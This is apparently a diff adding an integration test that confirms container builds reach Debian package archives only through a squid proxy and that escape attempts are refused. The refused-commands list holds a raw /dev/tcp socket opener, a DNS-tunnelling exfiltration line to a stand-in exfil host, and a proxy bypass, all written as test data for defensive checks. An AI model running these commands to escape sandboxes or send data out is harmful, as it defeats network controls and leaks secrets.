@@ -1,0 +1,97 @@
+// Package archives from a build, through the host's squid, and nothing else. Real parts only:
+// Debian's squid, the launcher, Debian's archive (this machine reaches deb.debian.org; when it
+// does not, the suite is skipped and says why). Each refused way out is tried for real.
+import { chmod, mkdtemp, rm } from 'node:fs/promises';
+import { request } from 'node:http';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { LearnerError } from '../../../protocol/errors.js';
+import { ensureBaseImage } from '../base-images/index.js';
+import { createHarness, type Harness } from '../builder/test-support/harness.js';
+import type { Builder } from '../builder/build.js';
+import { EgressService } from './index.js';
+
+function reachable(host: string): Promise<boolean> {
+  return new Promise((resolve) => {
+    const req = request({ host, path: '/', method: 'HEAD', timeout: 5_000 }, (res) => (res.resume(), resolve(true)));
+    req.on('error', () => resolve(false));
+    req.on('timeout', () => (req.destroy(), resolve(false)));
+    req.end();
+  });
+}
+
+const online = await reachable('deb.debian.org');
+if (!online) console.warn('egress tests skipped: deb.debian.org is not reachable from this host');
+
+describe.skipIf(!online)('egress to package archives', () => {
+  let h: Harness;
+  let dir: string;
+  let egress: EgressService;
+  let builder: Builder;
+  let curlImage = '';
+
+  beforeAll(async () => {
+    h = await createHarness('egress');
+    await ensureBaseImage(h.store, 'debian');
+    // squid drops to the proxy user: its directory must be reachable by it.
+    dir = await mkdtemp('/tmp/lc-egress-');
+    await chmod(dir, 0o755);
+    egress = new EgressService({ dir, cacheBytes: 256 * 2 ** 20 });
+    await egress.start();
+    builder = h.builderWith({ egress });
+  }, 600_000);
+
+  afterAll(async () => {
+    await egress?.stop();
+    expect(await h.leftovers()).toEqual([]);
+    await h?.close();
+    await rm(dir, { recursive: true, force: true });
+  }, 60_000);
+
+  const APT = 'FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl\n';
+
+  it('builds apt-get install curl through the proxy; the same build again is served from its cache', async () => {
+    const first = await h.build(APT, { tags: ['curl'] }, builder).catch((err) => {
+      console.error(JSON.stringify((err as LearnerError).facts, null, 1));
+      throw err;
+    });
+    curlImage = first.imageId;
+    expect(await h.inImage(first.imageId, 'test -x "$ROOT/usr/bin/curl" && echo yes')).toContain('yes');
+    const afterFirst = await egress.counters();
+    expect(afterFirst.requests).toBeGreaterThan(5);
+
+    // --no-cache: the step runs again and refetches, from squid's cache this time.
+    const again = await h.build(APT, { noCache: true }, builder);
+    expect(again.imageId).toBeDefined();
+    const afterSecond = await egress.counters();
+    expect(afterSecond.hits - afterFirst.hits).toBeGreaterThan(5);
+    // The build cache stays honest: same instruction, cached like any other.
+    const cached = await h.build(APT, {}, builder);
+    expect(cached.steps.at(-1)?.cacheHit).toBe(true);
+  }, 300_000);
+
+  it('without the proxy the same step cannot reach the archive (the control)', async () => {
+    const failed = await h.buildFails('FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y curl\n', {}, h.builder);
+    expect(failed.error).toBeInstanceOf(LearnerError);
+    expect((failed.error as LearnerError).key).toBe('build.runFailed');
+  }, 120_000);
+
+  const refused: [string, string][] = [
+    ['a host off the list, by name, through the proxy', 'curl -sSf http://example.com/'],
+    ['a host by IP, through the proxy', 'curl -sSf http://203.0.113.80/'],
+    ['HTTPS to a host off the list (CONNECT)', 'curl -sSf https://example.com/'],
+    ['an allowed host, around the proxy', "curl -sSf --noproxy '*' http://deb.debian.org/debian/"],
+    ['a raw TCP socket to an IP', 'bash -c "exec 3<>/dev/tcp/203.0.113.80/80"'],
+    ['DNS tunnelling over UDP', 'bash -c "echo c2VjcmV0.exfil.example.com > /dev/udp/8.8.8.8/53"'],
+  ];
+  for (const [what, command] of refused) {
+    it(`refuses ${what} with the learner's message`, async () => {
+      expect(curlImage).not.toBe('');
+      const failed = await h.buildFails(`FROM ${curlImage}\nRUN ${command}\n`, {}, builder);
+      const err = failed.error as LearnerError;
+      expect(err).toBeInstanceOf(LearnerError);
+      expect(err.key).toBe('egress.refused');
+      expect(err.message).toContain('reaches package archives only');
+    }, 60_000);
+  }
+});
